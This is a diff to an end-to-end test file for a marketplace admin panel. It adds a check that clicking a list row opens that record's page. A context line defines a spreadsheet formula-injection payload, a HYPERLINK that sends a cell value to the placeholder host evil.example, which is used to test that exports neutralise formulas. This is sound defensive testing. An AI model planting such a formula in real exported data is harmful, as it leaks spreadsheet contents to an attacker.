@@ -10,29 +10,30 @@ const ADMIN = { email: 'lists-admin@bazaar.test', password: 'lists-pass-1' };
 /** What an attacker types as a shipping name: a live formula in a spreadsheet unless neutralised. */
 const FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
 
-/** Every admin list of PRODUCT.md, by its path, and how a row of it is found. */
-const LISTS: { path: string; rows: string }[] = [
-  { path: 'users', rows: 'tbody tr' },
-  { path: 'vendors', rows: 'tbody tr' },
-  { path: 'providers', rows: 'tbody tr' },
-  { path: 'products', rows: 'tbody tr' },
-  { path: 'services', rows: 'tbody tr' },
-  { path: 'bookings', rows: 'tbody tr' },
-  { path: 'reviews', rows: '[data-testid="review"]' },
-  { path: 'payouts', rows: 'tbody tr' },
-  { path: 'orders', rows: 'tbody tr' },
-  { path: 'rates', rows: 'tbody tr' },
-  { path: 'contact-messages', rows: 'tbody tr' },
-  { path: 'enquiries', rows: 'tbody tr' },
-  { path: 'tickets', rows: 'tbody tr' },
+/** Every admin list of PRODUCT.md, by its path, how a row of it is found, and whether a row opens its record's page. */
+const LISTS: { path: string; rows: string; opens: boolean }[] = [
+  { path: 'users', rows: 'tbody tr', opens: true },
+  { path: 'vendors', rows: 'tbody tr', opens: true },
+  { path: 'providers', rows: 'tbody tr', opens: true },
+  { path: 'products', rows: 'tbody tr', opens: true },
+  { path: 'services', rows: 'tbody tr', opens: true },
+  { path: 'bookings', rows: 'tbody tr', opens: true },
+  { path: 'reviews', rows: '[data-testid="review"]', opens: false },
+  { path: 'payouts', rows: 'tbody tr', opens: true },
+  { path: 'orders', rows: 'tbody tr', opens: true },
+  { path: 'rates', rows: 'tbody tr', opens: true },
+  { path: 'contact-messages', rows: 'tbody tr', opens: true },
+  { path: 'enquiries', rows: 'tbody tr', opens: true },
+  { path: 'tickets', rows: 'tbody tr', opens: true },
 ];
 
 /**
  * PRODUCT.md: Export and Print on every list. Each admin list (demo data, plus a payout, an
  * order, an enquiry, a contact message and a ticket made for it) has both: Export downloads a
- * CSV with at least the rows the page shows, Print opens the browser's print.
+ * CSV with at least the rows the page shows, Print opens the browser's print. A click on a
+ * row opens that record's page on every list that has one.
  */
-describe('admin lists: Export and Print', () => {
+describe('admin lists: Export and Print, a row opens its record', () => {
   let server: RunningServer;
   let browser: Browser;
   let retailName: string;
@@ -112,6 +113,22 @@ describe('admin lists: Export and Print', () => {
     if (path === 'reviews' || path === 'users') await snap(page, `lists-export-print-${path}`);
     await page.close();
   }, 60_000);
+
+  // One sign-in for them all (sign-ins from one address are limited): a click on a cell with no link or button of its own.
+  it("opens a row's record when the row is clicked, on every list with a page per record", async () => {
+    const page = await adminPage();
+    for (const { path, rows } of LISTS.filter((l) => l.opens)) {
+      await page.goto(`${server.url}/admin/${path}`);
+      const row = page.locator(rows).first();
+      await row.waitFor();
+      await row.locator('td:not(:has(a, button, input))').first().click();
+      await page.waitForURL((url) => new RegExp(`^/admin/${path}/[^/]+/show$`).test(url.pathname)).catch(() => {
+        throw new Error(`a row of /admin/${path} did not open its record (still on ${new URL(page.url()).pathname})`);
+      });
+      await page.locator('.RaShow-card').waitFor();
+    }
+    await page.close();
+  }, 120_000);
 
   it('exports orders one row each, their items in one cell and a typed formula kept as text', async () => {
     const page = await adminPage();
